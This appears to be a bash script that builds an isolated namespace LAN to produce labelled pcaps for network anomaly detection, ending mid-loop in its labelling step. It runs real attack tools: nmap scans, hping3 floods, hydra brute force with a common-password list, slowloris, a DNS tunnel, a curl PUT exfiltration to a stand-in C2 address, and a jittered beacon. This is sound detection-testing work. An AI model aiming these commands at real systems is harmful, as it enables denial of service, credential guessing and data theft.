#!/usr/bin/env bash
# nad testbed: a small home LAN in network namespaces, benign traffic from real
# programs, then attacks from real tools, all captured at the gateway with
# tcpdump and labelled in the format of ../shared/data/labels.tsv.
#
#   sudo tests/testbed/testbed.sh [--profile short|long|demo] [--out DIR]
#
# See tests/testbed/README.md for the topology, traffic, attacks and outputs.
#
# Safety: every address is private and lives in a namespace this script
# creates (prefix "nadtb-"); the namespaces have no link to the host's network
# and no default route; DNS is answered locally by dnsmasq with no upstream.
# Every generator is bounded in count and time, and wrapped in `timeout`.  An
# EXIT/INT/TERM trap kills what runs in the namespaces and deletes them.
set -euo pipefail

HERE=$(cd "$(dirname "${BASH_SOURCE[0]}")" && pwd)
GEN=$HERE/gen
PFX=nadtb
PY=/usr/bin/python3

PROFILE=short
OUT=./testbed-out
SNAPLEN=256
ATTACKS=all
BENIGN_SECS=
CLEAN=0

usage() {
    cat <<EOF
usage: $0 [--profile short|long|demo] [--out DIR] [--snaplen N]
          [--attacks LIST] [--benign SECONDS] [--clean]

  --profile short   CI profile: ~150 s benign, then every attack briefly (< 6 min)
  --profile long    manual runs: 30 min benign, longer beacon/tunnel (~37 min)
  --profile demo    the bundled demo captures: light bulk traffic, scan + brute force
  --out DIR         output directory (default ./testbed-out); created if missing
  --snaplen N       tcpdump snap length (default 256: headers + long DNS names)
  --attacks LIST    comma-separated subset of: $ALL_ATTACKS
  --benign SECONDS  override the benign phase length
  --clean           delete leftover $PFX-* namespaces first instead of refusing
EOF
}

ALL_ATTACKS=sweep-arp,sweep-remote,scan-syn,scan-connect,scan-udp,flood-syn,flood-udp,brute-ssh,brute-ftp,slowloris,dns-tunnel,exfil,beacon

while (($#)); do
    case $1 in
        --profile) PROFILE=$2; shift 2 ;;
        --out) OUT=$2; shift 2 ;;
        --snaplen) SNAPLEN=$2; shift 2 ;;
        --attacks) ATTACKS=$2; shift 2 ;;
        --benign) BENIGN_SECS=$2; shift 2 ;;
        --clean) CLEAN=1; shift ;;
        -h|--help) usage; exit 0 ;;
        *) echo "testbed: unknown argument '$1'" >&2; usage >&2; exit 2 ;;
    esac
done
[[ $ATTACKS == all ]] && ATTACKS=$ALL_ATTACKS

log() { printf '%s testbed: %s\n' "$(date +%H:%M:%S)" "$*" >&2; }
die() { log "error: $*"; exit 1; }

# ------------------------------------------------------------------ profiles
# Shared knobs; the profile adjusts them.
case $PROFILE in
    short)
        BENIGN=150; PACE_MIN_MS=1200; PACE_SPAN_MS=3500
        SSH_EVERY=40; FTP_EVERY=60; NTP_EVERY=16; TELEM_EVERY=5; CHATTER_EVERY=6
        IPERF_SECS=4; IPERF_RATE=8M; IMG_KB="12 18 25 30 40 55 70 90 120 200"
        BEACON_N=12; BEACON_EVERY=5; TUNNEL_N=240; TUNNEL_RATE=8; EXFIL_MB=20
        FLOOD_N=5000; SLOW_SECS=15; WORDS=24; PAGE_UNIT=4000; WEB_SHARE=76
        SEG_KB=150; SEG_EVERY=5 ;;
    long)
        BENIGN=1800; PACE_MIN_MS=2000; PACE_SPAN_MS=8000
        SSH_EVERY=240; FTP_EVERY=300; NTP_EVERY=64; TELEM_EVERY=10; CHATTER_EVERY=20
        IPERF_SECS=20; IPERF_RATE=20M; IMG_KB="12 18 25 30 40 55 70 90 120 400"
        BEACON_N=30; BEACON_EVERY=20; TUNNEL_N=1200; TUNNEL_RATE=8; EXFIL_MB=60
        FLOOD_N=20000; SLOW_SECS=60; WORDS=60; PAGE_UNIT=4000; WEB_SHARE=76
        SEG_KB=300; SEG_EVERY=5 ;;
    demo)
        BENIGN=210; PACE_MIN_MS=300; PACE_SPAN_MS=900
        SSH_EVERY=45; FTP_EVERY=90; NTP_EVERY=16; TELEM_EVERY=5; CHATTER_EVERY=5
        IPERF_SECS=1; IPERF_RATE=1M; IMG_KB="1 1 2 2 3 3 4 4 5 6"
        BEACON_N=8; BEACON_EVERY=5; TUNNEL_N=80; TUNNEL_RATE=8; EXFIL_MB=5
        FLOOD_N=1000; SLOW_SECS=10; WORDS=40; PAGE_UNIT=500; WEB_SHARE=30
        SEG_KB=8; SEG_EVERY=6
        [[ $ATTACKS == "$ALL_ATTACKS" ]] && ATTACKS=scan-syn,brute-ssh ;;
    *) die "unknown profile '$PROFILE' (short, long, demo)" ;;
esac
[[ -n $BENIGN_SECS ]] && BENIGN=$BENIGN_SECS
GAP=5        # seconds between two attacks of the attacker (windows never overlap)
TAIL=4       # seconds after an attack's end still in its label window (the gateway
             # answers a probe to a dead address with ICMP host unreachable ~3 s later)

# ------------------------------------------------------------------ addresses
LAN=192.168.77
WAN=10.99.0
GW_IP=$LAN.1;   GW_MAC=02:00:00:77:00:01
NAS_IP=$LAN.10; NAS_MAC=02:00:00:77:00:0a
C1_IP=$LAN.21;  C1_MAC=02:00:00:77:00:15
C2_IP=$LAN.22;  C2_MAC=02:00:00:77:00:16
C3_IP=$LAN.23;  C3_MAC=02:00:00:77:00:17
IOT_IP=$LAN.30; IOT_MAC=02:00:00:77:00:1e
TV_IP=$LAN.31;  TV_MAC=02:00:00:77:00:1f
ATK_IP=$LAN.66; ATK_MAC=02:00:00:77:00:42
WWW_IP=$WAN.10; CDN_IP=$WAN.11; API_IP=$WAN.12; NTP_IP=$WAN.13; C2_SRV_IP=$WAN.66
NSLIST=(gw nas srv c1 c2 c3 iot tv atk)

# ------------------------------------------------------------------ checks
[[ $EUID -eq 0 ]] || die "must run as root (network namespaces, tcpdump)"
for t in ip ethtool tcpdump tshark editcap capinfos nginx dnsmasq /usr/sbin/sshd ssh scp ssh-keygen vsftpd \
         iperf3 curl dig nmap hping3 hydra slowhttptest openssl timeout "$PY"; do
    command -v "$t" >/dev/null || die "missing tool '$t' (see tests/testbed/README.md: apt-get install ...)"
done

existing() { ip netns list | awk '{print $1}' | grep "^$PFX-" || true; }

kill_ns_procs() {
    local ns pids
    for ns in $(existing); do
        pids=$(ip netns pids "$ns" 2>/dev/null || true)
        [[ -n $pids ]] && kill $pids 2>/dev/null || true
    done
}

delete_namespaces() {
    local ns pids i
    kill_ns_procs
    for i in 1 2 3 4 5 6 7 8 9 10; do
        pids=""
        for ns in $(existing); do pids+=$(ip netns pids "$ns" 2>/dev/null || true); done
        [[ -z $pids ]] && break
        sleep 0.5
    done
    for ns in $(existing); do
        pids=$(ip netns pids "$ns" 2>/dev/null || true)
        [[ -n $pids ]] && kill -9 $pids 2>/dev/null || true
        ip netns del "$ns" 2>/dev/null || true
        rm -rf "/etc/netns/$ns"
    done
    rm -rf /etc/netns/$PFX-* 2>/dev/null || true
    rmdir /etc/netns 2>/dev/null || true
}

if [[ -n $(existing) ]]; then
    if ((CLEAN)); then
        log "deleting leftover namespaces: $(existing | tr '\n' ' ')"
        delete_namespaces
    else
        die "namespaces with prefix $PFX- already exist ($(existing | tr '\n' ' ')); another testbed is running or one was killed hard. Re-run with --clean to delete them."
    fi
fi

mkdir -p "$OUT"
OUT=$(cd "$OUT" && pwd)
W=$OUT/work
rm -rf "$W"
mkdir -p "$W"
rm -f "$OUT"/testbed.pcap "$OUT"/benign.pcap "$OUT"/attack.pcap "$OUT"/labels.tsv "$OUT"/summary.txt
: >"$W/attacks.tsv"

BG_PIDS=()
TCPDUMP_PID=
cleanup() {
    local rc=$?
    trap - EXIT INT TERM
    [[ -n $TCPDUMP_PID ]] && kill -TERM "$TCPDUMP_PID" 2>/dev/null || true
    for p in "${BG_PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
    delete_namespaces
    rm -rf "$W/drop" "$W/nas-upload" "$W/files"
    if [[ -n $(existing) ]]; then log "warning: namespaces left: $(existing)"; fi
    exit $rc
}
trap cleanup EXIT
trap 'log interrupted; exit 130' INT TERM

nsx() { local ns=$1; shift; ip netns exec "$PFX-$ns" "$@"; }
# sleep that a signal interrupts at once (bash runs a trap only after the
# foreground command ends, so a plain 30-minute sleep would delay Ctrl-C)
pause_for() { sleep "$1" & local p=$!; BG_PIDS+=("$p"); wait "$p"; }
# run a bounded background job in a namespace: spawn NS SECONDS NAME cmd...
spawn() {
    local ns=$1 secs=$2 name=$3; shift 3
    ip netns exec "$PFX-$ns" timeout -k 3 "$secs" "$@" >"$W/$name.log" 2>&1 &
    BG_PIDS+=($!)
}

# ------------------------------------------------------------------ topology
log "profile $PROFILE: benign ${BENIGN}s, attacks: $ATTACKS; output in $OUT"
T_SETUP=$(date +%s)
for n in "${NSLIST[@]}"; do
    ip netns add "$PFX-$n"
    mkdir -p "/etc/netns/$PFX-$n"
    printf 'nameserver %s\noptions timeout:2 attempts:1\n' "$GW_IP" >"/etc/netns/$PFX-$n/resolv.conf"
    printf '127.0.0.1 localhost\n' >"/etc/netns/$PFX-$n/hosts"
    nsx "$n" sysctl -qw net.ipv6.conf.all.disable_ipv6=1 net.ipv6.conf.default.disable_ipv6=1
    nsx "$n" ip link set lo up
done

nsx gw ip link add br0 address "$GW_MAC" type bridge stp_state 0 forward_delay 0 mcast_snooping 0
nsx gw ip addr add "$GW_IP/24" dev br0
nsx gw ip link set br0 up
nsx gw sysctl -qw net.ipv4.ip_forward=1

# Real Ethernet carries MTU-sized frames with finished checksums: turn off the
# veth offloads (TSO/GSO/GRO, checksum) so the capture shows the same.
no_offload() {
    nsx "$1" ethtool -K "$2" tx off rx off tso off gso off gro off >/dev/null 2>&1 || \
        log "warning: could not turn off offloads on $1/$2"
}
lan_host() {   # lan_host NS IP MAC
    local n=$1 ip=$2 mac=$3
    nsx gw ip link add "v-$n" type veth peer name eth0 netns "$PFX-$n"
    nsx "$n" sysctl -qw net.ipv6.conf.all.disable_ipv6=1
    nsx "$n" ip link set eth0 address "$mac"
    nsx "$n" ip addr add "$ip/24" dev eth0
    nsx "$n" ip link set eth0 up
    nsx gw ip link set "v-$n" master br0 up
    no_offload "$n" eth0
    no_offload gw "v-$n"
    # the "internet" is reached through the gateway; no default route anywhere
    nsx "$n" ip route add "$WAN.0/24" via "$GW_IP"
    nsx "$n" ip route add 224.0.0.0/4 dev eth0
}
lan_host nas "$NAS_IP" "$NAS_MAC"
lan_host c1 "$C1_IP" "$C1_MAC"
lan_host c2 "$C2_IP" "$C2_MAC"
lan_host c3 "$C3_IP" "$C3_MAC"
lan_host iot "$IOT_IP" "$IOT_MAC"
lan_host tv "$TV_IP" "$TV_MAC"
lan_host atk "$ATK_IP" "$ATK_MAC"
# the NAS answers ICMP errors faster than Linux's default (1/s per peer)
nsx nas sysctl -qw net.ipv4.icmp_ratelimit=100

# "internet" side: one server namespace with several addresses behind the gateway
nsx gw ip link add wan0 type veth peer name eth0 netns "$PFX-srv"
nsx gw ip addr add "$WAN.1/24" dev wan0
nsx gw ip link set wan0 up
nsx srv sysctl -qw net.ipv6.conf.all.disable_ipv6=1
nsx srv ip link set eth0 address 02:00:00:99:00:0a
for a in "$WWW_IP" "$CDN_IP" "$API_IP" "$NTP_IP" "$C2_SRV_IP"; do nsx srv ip addr add "$a/24" dev eth0; done
nsx srv ip link set eth0 up
no_offload srv eth0
no_offload gw wan0
nsx srv ip route add "$LAN.0/24" via "$WAN.1"

# ------------------------------------------------------------------ content
mkdir -p "$W/www/site" "$W/www/cdn" "$W/www/api/v1" "$W/www/nas" "$W/www/c2" "$W/ftp/pub" \
         "$W/drop" "$W/nas-upload" "$W/tls" "$W/ssh" "$W/files" "$W/nginx-srv" "$W/nginx-nas"
mkfile() { head -c "$2" /dev/zero | tr '\0' 'a' >"$1"; }
mkfile "$W/www/site/index.html" $((PAGE_UNIT * 2))
for i in 0 1 2 3 4 5 6 7; do mkfile "$W/www/site/page$i.html" $(( (i * 7 + 3) % 8 * PAGE_UNIT + PAGE_UNIT * 3 / 4 )); done
mkfile "$W/www/site/style.css" "$PAGE_UNIT"
i=0; for kb in $IMG_KB; do mkfile "$W/www/cdn/img$i.jpg" $((kb * 1024)); i=$((i + 1)); done
mkdir -p "$W/www/cdn/video"
for i in 0 1 2 3 4 5 6 7 8 9 10 11; do mkfile "$W/www/cdn/video/seg$i.ts" $((SEG_KB * (90 + i * 2) / 100 * 1024)); done
printf '{"segments":12,"duration":%d}\n' "$SEG_EVERY" >"$W/www/cdn/video/manifest.json"
mkfile "$W/www/nas/index.html" 3000
printf '{"disks":"ok","temp":41,"uptime":123456}\n' >"$W/www/nas/status.json"
mkfile "$W/ftp/pub/manual.pdf" 60000
chmod -R a+rX "$W/ftp"
mkfile "$W/files/photo.bin" 150000
head -c $((EXFIL_MB * 1024 * 1024)) /dev/urandom >"$W/files/exfil.tar" 2>/dev/null

# TLS: a testbed CA-less self-signed certificate for every name, made now
SANS="DNS:www.newsportal.test,DNS:news.newsportal.test,DNS:shop.example-store.test,DNS:www.example-store.test"
SANS+=",DNS:cdn.static-media.test,DNS:api.weather.test,DNS:api.iot-cloud.test,DNS:nas.home.lan"
SANS+=",DNS:mail.webmail.test,DNS:www.videosite.test,DNS:sync.cdn-sync.test,IP:$C2_SRV_IP"
openssl req -x509 -newkey ec -pkeyopt ec_paramgen_curve:prime256v1 -nodes -days 2 \
    -subj "/CN=nad testbed" -addext "subjectAltName=$SANS" \
    -keyout "$W/tls/key.pem" -out "$W/tls/cert.pem" 2>/dev/null

ssh-keygen -q -t ed25519 -N '' -f "$W/ssh/host_ed25519"
ssh-keygen -q -t ed25519 -N '' -f "$W/ssh/user_ed25519"
cp "$W/ssh/user_ed25519.pub" "$W/ssh/authorized_keys"

cat >"$W/hosts" <<EOF
$GW_IP router.home.lan gw.home.lan
$NAS_IP nas.home.lan
$C1_IP laptop.home.lan
$C2_IP desktop.home.lan
$C3_IP phone.home.lan
$IOT_IP camera.home.lan
$LAN.40 printer.home.lan
$TV_IP tv.home.lan
$WWW_IP www.newsportal.test news.newsportal.test shop.example-store.test www.example-store.test
$WWW_IP mail.webmail.test www.videosite.test www.search.test www.social.test static.social.test updates.os-vendor.test
$CDN_IP cdn.static-media.test
$API_IP api.iot-cloud.test api.weather.test
$NTP_IP ntp.time.test
$C2_SRV_IP sync.cdn-sync.test
EOF

nginx_conf() {   # nginx_conf NAME SERVERS-BLOCK
    local d=$W/nginx-$1
    cat >"$d/nginx.conf" <<EOF
user root;
worker_processes 1;
daemon off;
pid $d/nginx.pid;
error_log $d/error.log warn;
events { worker_connections 2048; }
http {
    access_log $d/access.log;
    client_body_temp_path $d/body;
    proxy_temp_path $d/proxy;
    fastcgi_temp_path $d/fastcgi;
    uwsgi_temp_path $d/uwsgi;
    scgi_temp_path $d/scgi;
    types { text/html html; text/css css; image/jpeg jpg; application/json json; application/pdf pdf; video/mp2t ts; }
    default_type application/octet-stream;
    keepalive_timeout 15;
    client_header_timeout 30;
    ssl_certificate $W/tls/cert.pem;
    ssl_certificate_key $W/tls/key.pem;
$2
}
EOF
}
nginx_conf srv "
    server { listen $WWW_IP:80; listen $WWW_IP:443 ssl; root $W/www/site; }
    server { listen $CDN_IP:80; listen $CDN_IP:443 ssl; root $W/www/cdn; }
    server { listen $API_IP:80; listen $API_IP:443 ssl; root $W/www/api;
             location /v1/ { default_type application/json; return 200 '{\"temp\":12.5,\"wind\":3}'; } }
    server { listen $C2_SRV_IP:443 ssl; listen $C2_SRV_IP:80; root $W/drop;
             client_max_body_size 0; dav_methods PUT; create_full_put_path on; }
    server { listen $C2_SRV_IP:8080; default_type application/json;
             location / { return 200 '{\"task\":\"sleep\",\"interval\":$BEACON_EVERY}'; } }"
nginx_conf nas "
    server { listen $NAS_IP:80; listen $NAS_IP:443 ssl; root $W/www/nas; }"

cat >"$W/sshd_config" <<EOF
ListenAddress $NAS_IP
HostKey $W/ssh/host_ed25519
PidFile $W/sshd.pid
PermitRootLogin prohibit-password
PasswordAuthentication yes
KbdInteractiveAuthentication no
UsePAM no
AuthorizedKeysFile $W/ssh/authorized_keys
StrictModes no
MaxStartups 200:30:400
Subsystem sftp internal-sftp
EOF
mkdir -p /run/sshd

cat >"$W/vsftpd.conf" <<EOF
listen=YES
listen_address=$NAS_IP
background=NO
anonymous_enable=YES
anon_root=$W/ftp
no_anon_password=YES
local_enable=YES
write_enable=NO
pam_service_name=vsftpd
secure_chroot_dir=/var/run/vsftpd/empty
seccomp_sandbox=NO
xferlog_enable=NO
vsftpd_log_file=$W/vsftpd.log
syslog_enable=NO
pasv_min_port=40000
pasv_max_port=40100
max_clients=200
max_per_ip=60
EOF
mkdir -p /var/run/vsftpd/empty

# ------------------------------------------------------------------ timing
ATTACK_BUDGET=150       # upper bound of the attack phase, for the servers' timeouts
ATTACK_TIMEOUT=120      # upper bound of one attack
[[ $PROFILE == long ]] && { ATTACK_BUDGET=800; ATTACK_TIMEOUT=700; }
[[ $PROFILE == demo ]] && ATTACK_BUDGET=60
RUN=$((BENIGN + ATTACK_BUDGET + 30))     # hard bound for every server/generator

# ------------------------------------------------------------------ capture
tcpdump_log=$W/tcpdump.log
# started with ip netns exec directly so that $! is tcpdump itself
ip netns exec "$PFX-gw" tcpdump -i br0 -n -Z root -s "$SNAPLEN" -U -w "$OUT/testbed.pcap" >"$tcpdump_log" 2>&1 &
TCPDUMP_PID=$!
for i in $(seq 1 50); do grep -q "listening on" "$tcpdump_log" && break; sleep 0.1; done
grep -q "listening on" "$tcpdump_log" || die "tcpdump did not start: $(cat "$tcpdump_log")"

# ------------------------------------------------------------------ servers
# names go on the command line (--host-record), so that dnsmasq, which drops
# to nobody, needs to read no file under a possibly private output directory
HOST_RECORDS=()
while read -r addr names; do
    [[ -n $addr ]] && HOST_RECORDS+=("--host-record=${names// /,},$addr")
done <"$W/hosts"
spawn gw  "$RUN" dnsmasq dnsmasq -k --conf-file=/dev/null --no-resolv --no-hosts "${HOST_RECORDS[@]}" \
    --listen-address="$GW_IP" --bind-interfaces --local=/home.lan/ --local=/test/ --domain-needed \
    --bogus-priv --user=nobody --group=nogroup --pid-file="$W/dnsmasq.pid" --log-facility=-
spawn srv "$RUN" nginx-srv nginx -c "$W/nginx-srv/nginx.conf"
spawn nas "$RUN" nginx-nas nginx -c "$W/nginx-nas/nginx.conf"
spawn nas "$RUN" sshd /usr/sbin/sshd -D -e -f "$W/sshd_config"
spawn nas "$RUN" vsftpd vsftpd "$W/vsftpd.conf"
spawn nas "$RUN" iperf3-server iperf3 -s -B "$NAS_IP"
spawn srv "$RUN" ntp-server "$PY" "$GEN/nadtb_gen.py" ntp-server --bind "$NTP_IP" --duration "$RUN"
spawn srv "$RUN" telem-server "$PY" "$GEN/nadtb_gen.py" telem-server --bind "$API_IP" --duration "$RUN"
spawn iot "$RUN" ssdp-responder "$PY" "$GEN/nadtb_gen.py" ssdp-responder --ip "$IOT_IP" --name camera --duration "$RUN"

# wait for the servers to listen
ready() { nsx "$1" bash -c "exec 3<>/dev/tcp/$2/$3" 2>/dev/null; }
for i in $(seq 1 50); do
    ready nas "$NAS_IP" 22 && ready nas "$NAS_IP" 21 && ready nas "$NAS_IP" 80 && ready srv "$WWW_IP" 443 && \
        ready nas "$NAS_IP" 5201 && ready srv "$C2_SRV_IP" 8080 && break
    sleep 0.2
done
ans=$(nsx c1 dig +short +tries=3 +time=1 "@$GW_IP" nas.home.lan A || true)
[[ $ans == "$NAS_IP" ]] || die "dnsmasq does not answer (got '$ans')"
log "topology and servers up in $(( $(date +%s) - T_SETUP )) s"

# ------------------------------------------------------------------ benign traffic
T_BENIGN=$(date +%s.%N)
DUR=$((RUN - 20))           # benign traffic goes on during the attack phase
client() {   # client NS NAME SEED [extra env...]
    local n=$1 name=$2 seed=$3; shift 3
    spawn "$n" $((DUR + 15)) "client-$n" env NAME="$name" SEED="$seed" DURATION="$DUR" MAXITER=100000 \
        PACE_MIN_MS="$PACE_MIN_MS" PACE_SPAN_MS="$PACE_SPAN_MS" CACERT="$W/tls/cert.pem" DNS="$GW_IP" \
        SSH_KEY="$W/ssh/user_ed25519" NAS="$NAS_IP" SCP_FILE="$W/files/photo.bin" SCP_DEST="$W/nas-upload" \
        SSH_EVERY=0 FTP_EVERY=0 BULK_AT=0 BULK_CMD= WEB_SHARE="$WEB_SHARE" "$@" bash "$GEN/client.sh"
}
client c1 laptop 101 SSH_EVERY="$SSH_EVERY"
client c2 desktop 202 FTP_EVERY="$FTP_EVERY" BULK_AT=$((BENIGN / 3)) \
    BULK_CMD="iperf3 -c $NAS_IP -t $IPERF_SECS -b $IPERF_RATE --connect-timeout 3000"
client c3 phone 303
g() { echo "$PY $GEN/nadtb_gen.py"; }
k=0
for n in c1 c2 c3 iot tv; do
    k=$((k + 1))
    ip_var=${n^^}_IP
    spawn "$n" $((DUR + 5)) "ntp-$n" $(g) ntp-client --server "$NTP_IP" --every "$NTP_EVERY" --duration "$DUR" --seed $((10 + k))
    spawn "$n" $((DUR + 5)) "chatter-$n" $(g) chatter --ip "${!ip_var}" --name "$n" --every $((CHATTER_EVERY * (k == 4 ? 1 : 3))) \
        --duration "$DUR" --seed $((20 + k))
done
spawn tv $((DUR + 5)) stream env SEED=505 DURATION="$DUR" MAX_EPISODES=1000 CACERT="$W/tls/cert.pem" \
    HOST=cdn.static-media.test SEGS_MIN=6 SEGS_SPAN=12 SEG_EVERY="$SEG_EVERY" NSEG=12 bash "$GEN/stream.sh"
spawn iot $((DUR + 5)) telem-udp $(g) telem-client --server "$API_IP" --device cam-01 --every "$TELEM_EVERY" \
    --duration "$DUR" --seed 31 --sport 40123 --resolve api.iot-cloud.test --resolve-every 12
spawn iot $((DUR + 5)) telem-sensor $(g) telem-client --server "$API_IP" --device thermo-02 --every $((TELEM_EVERY * 3)) \
    --duration "$DUR" --seed 32 --tcp-every 0

log "benign phase: ${BENIGN}s"
pause_for "$BENIGN"

# ------------------------------------------------------------------ attacks
T_ATTACK=$(date +%s.%N)
want() { [[ ",$ATTACKS," == *",$1,"* ]]; }
# attack NAME CATEGORY ATTACKERS VICTIMS BASE-RULE DESCRIPTION -- NS cmd...
attack() {
    local name=$1 cat=$2 ah=$3 vh=$4 rule=$5 desc=$6 ns=$8 t0 t1 rc=0
    shift 8
    want "$name" || return 0
    log "attack $name ($cat) from $ns"
    t0=$(date +%s.%N)
    (cd "$W" && ip netns exec "$PFX-$ns" timeout -k 3 "$ATTACK_TIMEOUT" "$@") >"$W/attack-$name.log" 2>&1 || rc=$?
    t1=$(date +%s.%N)
    printf '%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\t%s\n' "$name" "$cat" "$ah" "$vh" "$rule" "$t0" "$t1" "$rc" "$desc" >>"$W/attacks.tsv"
    sleep "$GAP"
}

A="ip.addr==$ATK_IP"
attacker_run() {
    attack sweep-arp sweep "$ATK_MAC" "$LAN.0/24" "arp && eth.addr==$ATK_MAC" \
        "nmap -sn ARP host sweep of the LAN $LAN.0/24 (who-has for every address; live hosts answer)" \
        -- atk nmap -sn -n -T4 "$LAN.0/24"
    attack sweep-remote sweep "$ATK_IP" "$WAN.0/24" "$A && !arp" \
        "nmap -sn host sweep of $WAN.0/24 through the gateway: ICMP echo, TCP SYN/443, TCP ACK/80, ICMP timestamp per address" \
        -- atk nmap -sn -n -T4 --max-retries 1 "$WAN.0/24"
    attack scan-syn scan "$ATK_IP" "$NAS_IP" "$A && ip.addr==$NAS_IP" \
        "nmap -sS SYN scan of the NAS, top 1000 TCP ports (open 21,22,80,443)" \
        -- atk nmap -sS -n -T4 -Pn "$NAS_IP"
    attack scan-connect scan "$ATK_IP" "$WWW_IP" "$A && ip.addr==$WWW_IP" \
        "nmap -sT connect scan of the web server $WWW_IP, top 300 TCP ports (open 80,443)" \
        -- atk nmap -sT -n -T4 -Pn --top-ports 300 "$WWW_IP"
    attack scan-udp scan "$ATK_IP" "$NAS_IP" "$A && ip.addr==$NAS_IP" \
        "nmap -sU UDP scan of the NAS, top 30 UDP ports, 1 retry; ICMP port unreachable replies" \
        -- atk nmap -sU -n -T4 -Pn --top-ports 30 --max-retries 1 "$NAS_IP"
    attack flood-syn flood "$ATK_IP" "$NAS_IP" "$A && ip.addr==$NAS_IP" \
        "hping3 SYN flood, $FLOOD_N SYNs to $NAS_IP:80 (--faster), SYN/ACK + RST replies" \
        -- atk "$HERE/gen/hping.sh" -S -p 80 -c "$FLOOD_N" --faster -q "$NAS_IP"
    attack flood-udp flood "$ATK_IP" "$NAS_IP" "$A && ip.addr==$NAS_IP" \
        "hping3 UDP flood, $FLOOD_N x 120-byte datagrams to closed $NAS_IP:9 (--faster), rate-limited ICMP unreachables" \
        -- atk "$HERE/gen/hping.sh" --udp -p 9 -d 120 -c "$FLOOD_N" --faster -q "$NAS_IP"
    attack brute-ssh bruteforce "$ATK_IP" "$NAS_IP" "$A && ip.addr==$NAS_IP && tcp.port==22" \
        "hydra SSH password guessing: user admin, $WORDS passwords, 4 tasks; all fail" \
        -- atk hydra -I -l admin -P "$W/words.txt" -t 4 -w 5 -o "$W/hydra-ssh.out" "ssh://$NAS_IP"
    attack brute-ftp bruteforce "$ATK_IP" "$NAS_IP" "$A && ip.addr==$NAS_IP && tcp.port==21" \
        "hydra FTP password guessing: user admin, $WORDS passwords, 4 tasks; all fail (530)" \
        -- atk hydra -I -l admin -P "$W/words.txt" -t 4 -w 5 -o "$W/hydra-ftp.out" "ftp://$NAS_IP"
    attack slowloris dos "$ATK_IP" "$NAS_IP" "$A && ip.addr==$NAS_IP && tcp.port==80" \
        "slowhttptest slowloris: 300 connections to http://$NAS_IP/, partial headers every 5 s, ${SLOW_SECS} s" \
        -- atk slowhttptest -H -c 300 -r 100 -i 5 -s 8192 -t GET -l "$SLOW_SECS" -u "http://$NAS_IP/"
}

compromised_run() {
    local C="ip.addr==$C3_IP"
    attack dns-tunnel dns-tunnel "$GW_IP" "$C3_IP" \
        "$C && ip.addr==$GW_IP && udp.port==53 && dns.qry.name contains \"t.cdn-sync.test\"" \
        "compromised phone sends $TUNNEL_N TXT queries with long base32 labels under t.cdn-sync.test to the LAN resolver (50 per source port)" \
        -- c3 "$PY" "$GEN/nadtb_gen.py" dnstunnel --server "$GW_IP" --domain t.cdn-sync.test --count "$TUNNEL_N" \
           --rate "$TUNNEL_RATE" --duration $((TUNNEL_N / TUNNEL_RATE + 30)) --seed 77
    attack exfil exfiltration "$C3_IP" "$C2_SRV_IP" "$C && ip.addr==$C2_SRV_IP && tcp.port==443" \
        "compromised phone uploads ${EXFIL_MB} MB of random data with curl (HTTPS PUT) to $C2_SRV_IP" \
        -- c3 curl -s -o /dev/null -k -H "Expect:" --limit-rate 4M --max-time 60 -T "$W/files/exfil.tar" \
           "https://$C2_SRV_IP/backup-$(date +%s).tar"
}

beacon_run() {
    attack beacon c2 "$C2_SRV_IP" "$C3_IP" "ip.addr==$C3_IP && ip.addr==$C2_SRV_IP && tcp.port==8080" \
        "compromised phone polls http://$C2_SRV_IP:8080/ $BEACON_N times every ${BEACON_EVERY} s (+-20% jitter), new connection each time" \
        -- c3 bash -c "RANDOM=99; for ((i=0;i<$BEACON_N;i++)); do
              curl -s -o /dev/null --max-time 5 -A 'Mozilla/5.0' \"http://$C2_SRV_IP:8080/api/v2/poll?id=7f3a&n=\$i\";
              ms=\$(( $BEACON_EVERY * 800 + RANDOM % ($BEACON_EVERY * 400 + 1) ));
              ((i < $BEACON_N - 1)) && sleep \$((ms/1000)).\$(printf %03d \$((ms%1000)));
            done; true"
}

{ printf '%s\n' 123456 password admin 12345678 qwerty letmein welcome monkey dragon master \
      football iloveyou sunshine princess shadow superman michael trustno1 baseball abc123 \
      passw0rd starwars hello freedom whatever qazwsx ninja mustang access 654321 batman zaq12wsx \
      charlie donald password1 qwerty123 login solo admin123 flower hottie loveme 1q2w3e4r \
      lovely 7777777 888888 jordan 121212 000000 harley pepper robert hunter ranger buster \
      soccer hockey killer george andrew; } | head -n "$WORDS" >"$W/words.txt"

attacker_run & A_PID=$!
{ sleep 5; compromised_run; } & C_PID=$!
{ sleep 2; beacon_run; } & B_PID=$!
BG_PIDS+=("$A_PID" "$C_PID" "$B_PID")
wait "$A_PID" "$C_PID" "$B_PID" || true
T_END_ATTACK=$(date +%s.%N)
log "attacks done in $(printf '%.0f' "$(echo "$T_END_ATTACK - $T_ATTACK" | bc)") s; letting traffic settle"
pause_for 5

# ------------------------------------------------------------------ stop
kill -TERM "$TCPDUMP_PID" 2>/dev/null || true
wait "$TCPDUMP_PID" 2>/dev/null || true
TCPDUMP_PID=
for p in "${BG_PIDS[@]}"; do kill "$p" 2>/dev/null || true; done
kill_ns_procs
log "capture: $(grep -E 'captured|dropped by kernel' "$tcpdump_log" | tr '\n' ' ')"

# ------------------------------------------------------------------ split + labels
editcap -F pcap -B "$T_ATTACK" "$OUT/testbed.pcap" "$OUT/benign.pcap"
editcap -F pcap -A "$T_ATTACK" "$OUT/testbed.pcap" "$OUT/attack.pcap"
count() { tshark -r "$1" -Y "$2" -T fields -e frame.number 2>/dev/null | wc -l; }
count_in_window() {   # FILE LO HI RULE
    local slice=$W/slice.pcap
    editcap -F pcap -A "$2" -B "$(echo "$3 + 0.001" | bc)" "$1" "$slice" 2>/dev/null || { echo 0; return; }
    count "$slice" "$4"
    rm -f "$slice"
}
npk() { capinfos -c -M "$1" | awk -F: '/Number of packets/ {gsub(/ /, "", $2); print $2}'; }
ATTACK_TOTAL=$(npk "$OUT/attack.pcap")
BENIGN_TOTAL=$(npk "$OUT/benign.pcap")

printf 'file\tcategory\tattack_hosts\tvictim_hosts\trule\tnote\n' >"$OUT/labels.tsv"
ALL_RULES=""
while IFS=$'\t' read -r name cat ah vh base t0 t1 rc desc; do
    lo=$(printf '%.3f' "$(echo "$t0 - 0.5" | bc)")
    hi=$(printf '%.3f' "$(echo "$t1 + $TAIL" | bc)")
    rule="frame.time_epoch >= $lo && frame.time_epoch <= $hi && $base"
    # count on a slice cut to the rule's window (same result as on the whole
    # file, since the rule holds the window, and far quicker to dissect)
